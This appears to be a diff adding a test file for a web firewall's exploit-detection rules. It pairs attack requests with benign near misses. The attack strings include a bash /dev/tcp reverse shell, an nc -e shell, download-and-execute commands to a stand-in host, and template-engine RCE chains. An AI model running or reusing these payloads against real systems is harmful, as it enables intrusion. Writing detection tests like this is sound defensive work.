@@ -1,0 +1,74 @@
+/**
+ * Rules of rev 2026-12-04b (issue 18, generalization): each describes an exploit *mechanism* — a
+ * command injected after a short value, a reverse shell, a language's process primitive, a template
+ * engine's object chain, a template included by URL — not one product's request. Each fires on its
+ * attack wherever the value sits (query, form, JSON, XML, header) and stays quiet on the benign text
+ * closest to it: the shapes the generated benign families carry on purpose (a CI script piping an
+ * installer to sh, a Q&A quoting os.system or Runtime.exec, `$(nproc)` in a build command).
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { fileURLToPath } from 'node:url';
+import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
+import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
+import type { RequestSpec } from './fixtures.js';
+import { buildInspection } from './fixtures.js';
+
+const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
+const BROWSER: Array<[string, string]> = [
+  ['Host', 'shop.example.com'],
+  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
+];
+const JSON_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/json']];
+const FORM_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']];
+const XML_HEADERS: Array<[string, string]> = [...BROWSER, ['Content-Type', 'text/xml']];
+
+let gate: CompiledSignatureGate;
+beforeAll(async () => {
+  gate = (await loadRuleSet([RULES])).gate;
+});
+const hits = (spec: RequestSpec): Array<[number, string]> => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => [h.sid, h.effect]);
+const q = (query: string): RequestSpec => ({ url: `/search?${query}` });
+const json = (body: string): RequestSpec => ({ method: 'POST', url: '/api/items', headers: JSON_HEADERS, body });
+const form = (body: string): RequestSpec => ({ method: 'POST', url: '/submit', headers: FORM_HEADERS, body });
+const xml = (body: string): RequestSpec => ({ method: 'POST', url: '/soap', headers: XML_HEADERS, body });
+const header = (name: string, value: string): RequestSpec => ({ headers: [...BROWSER, [name, value]] });
+
+// [sid, attack name, attack, benign near miss]; every one of these rules blocks alone
+const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
+  [9000314, 'a pipe and a download inside a query value', q('poller_id=1%7Ccurl%20-O%20http%3A%2F%2Fx.test%2Fa'), q('fields=name%7Cid&sort=title')],
+  [9000314, 'a pipe and uname -a inside a form value', form('user=root&old=abcd%7Cuname+-a&new1=x'), form('message=I+tried+chmod+%2Bx+install.sh%3B+still+the+same.')],
+  [9000314, 'a backticked probe after a short value', q('id=1%60echo%20abc123%60'), q('q=the+%60echo%60+builtin')],
+  [9000314, 'a substitution with a download in an XML element', xml('<a><NewStatusURL>$(wget -q -O- http://x.test/x.sh|sh)</NewStatusURL></a>'), xml('<a><Script>make -j$(nproc) all</Script></a>')],
+  [9000314, 'a substitution writing a probe file', xml('<language>$(echo abc>webLib/x)</language>'), xml('<note>$(cat hosts.txt) lists the hosts</note>')],
+  [9000314, 'a backtick command in a header value', header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), header('X-Note', 'run `curl localhost:8080/ping` to check')],
+  [9000314, 'a separator and a shell -c in JSON', json('{"host":"127.0.0.1;sh -c id"}'), json('{"script":["curl -fsSL https://get.example.dev/install.sh | sh"]}')],
+  [9000315, 'a bash /dev/tcp reverse shell', json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), json('{"doc":"/dev/tcp is a bash feature"}')],
+  [9000315, 'a download then chmod of a file in /tmp', json('{"command":"curl -O http://x.test/a;chmod +x /tmp/a;/tmp/a"}'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl"]}')],
+  [9000315, 'nc -e with a shell', q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), q('q=nc+-e+option+removed')],
+  [9000316, 'a probe as a command field value', json('{"am-container-spec":{"commands":{"command":"cat /etc/passwd"}}}'), json('{"command":"cat /etc/config/app.yaml | envsubst"}')],
+  [9000316, 'whoami as the cmd parameter', q('todo=syscmd&cmd=whoami&x=1'), q('cmd=search&q=whoami')],
+  [9001320, "__import__('os').popen", q('cmd=__import__(%27os%27).popen(%27id%27).read()'), json('{"body":"What does `__import__(\'os\')` do and why do linters flag it?"}')],
+  [9001320, 'subprocess with shell=True', q('cmd=import%20subprocess%3Bsubprocess.check_output(%27id%27%2Cshell%3DTrue)'), json('{"content":"import subprocess\\nout = subprocess.check_output([\'uname\', \'-a\'])"}')],
+  [9001320, 'os.system of a command', form('code=os.system(%27wget+http%3A%2F%2Fx.test%2Fa%27)'), json('{"body":"`os.system(\'cls\' if os.name == \'nt\' else \'clear\')` does not clear the console"}')],
+  [9001321, 'a Groovy string .execute()', form('script=println+%22id%22.execute().text'), form('code=cur.execute(%22SELECT+1%22)')],
+  [9001321, 'a Groovy list .execute()', form('script=def+p+%3D+%5B%22sh%22%2C%22-c%22%2C%22id%22%5D.execute()'), json('{"body":"Runtime.getRuntime().exec(\\"notepad.exe\\") works on my machine"}')],
+  [9001321, 'a ProcessBuilder of sh -c', form('script=new+ProcessBuilder(%22sh%22%2C%22-c%22%2C%22id%22).start()'), form('script=new+ProcessBuilder(%22git%22%2C%22log%22).start()')],
+  [9001322, 'a FreeMarker Execute', form('tpl=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D'), form('tpl=%3C%23assign+total%3Dprice*2%3E')],
+  [9001322, 'a Velocity #set reaching Runtime', q('v=%23set(%24x%3D%24e.getClass().forName(%22java.lang.Runtime%22))'), q('v=%23set(%24total+%3D+%24price+*+2)')],
+  [9001324, 'a Jinja2 dunder chain', json('{"name":"{{ cycler.__init__.__globals__.os.popen(\'id\').read() }}"}'), json('{"doc":"__init__ runs when the class is instantiated"}')],
+  [9001322, 'a Thymeleaf preprocessing expression', q('lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__%3A%3A.x'), q('lang=__en__')],
+  [9001323, 'a template parameter naming an FTP template', json('{"params":{"_template":"ftp://x.test/x.vm"}}'), json('{"params":{"template":"https://cdn.example.com/emails/welcome.html"}}')],
+  [9001323, 'a template parameter with a traversal', q('template=..%2F..%2FWEB-INF%2Fweb.xml'), q('template=invoice-2024&layout=wide')],
+  [9001507, 'the TeamCity token path ending in /RPC2', { method: 'POST', url: '/app/rest/users/id:1/tokens/RPC2' }, { method: 'POST', url: '/app/rest/users/id:1/tokens/ci-token' }],
+  [9001508, 'a JSON object granting roles twice', { method: 'PUT', url: '/_users/org.couchdb.user:x', headers: JSON_HEADERS, body: '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"p"}' }, { method: 'PUT', url: '/db/_security', headers: JSON_HEADERS, body: '{"admins":{"names":[],"roles":["ops","dba"]},"members":{"names":[],"roles":["dev"]}}' }],
+];
+
+describe('bundled rules for exploit mechanisms (issue 18, generalization)', () => {
+  it.each(CASES.map(([sid, name, attack]) => [`${sid} ${name}`, sid, attack] as const))('%s: blocks', (_n, sid, attack) => {
+    expect(hits(attack)).toContainEqual([sid, 'block']);
+  });
+
+  it.each(CASES.map(([sid, name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
+    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
+  });
+});
